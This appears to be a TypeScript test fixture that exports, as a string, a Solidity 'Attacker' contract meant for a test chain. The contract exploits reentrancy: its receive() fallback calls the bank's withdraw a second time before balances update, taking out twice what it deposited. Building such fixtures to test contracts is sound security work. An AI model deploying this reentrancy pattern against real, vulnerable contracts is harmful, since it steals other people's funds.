/** Withdraws twice the amount that it has deposited, in the Solidity of the test chain. */
export const reentrantContract = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IBank {
    function ethdeposit(address to) external payable;
    function withdraw(uint256 amount) external;
}

/* Withdraws twice the amount that it has deposited. */
contract Attacker {
    IBank public immutable bank;
    address payable private owner;
    uint256 public rounds;

    event Drained(uint256 amount);

    modifier onlyOwner() {
        require(msg.sender == owner, "not yours");
        _;
    }

    constructor(address target) {
        bank = IBank(target);
        owner = payable(msg.sender);
    }

    function attack() external payable onlyOwner {
        require(msg.value >= 0.1 ether, "bring 0.1 ether");
        bank.ethdeposit{value: 0.1 ether}(address(this));
        bank.withdraw(0.1 ether);
        emit Drained(address(this).balance);
    }

    function collect() external onlyOwner {
        (bool sent, ) = owner.call{value: address(this).balance}("");
        require(sent, "stuck");
    }

    receive() external payable {
        if (rounds < 1) {
            rounds++;
            bank.withdraw(0.1 ether);
        }
    }
}
`
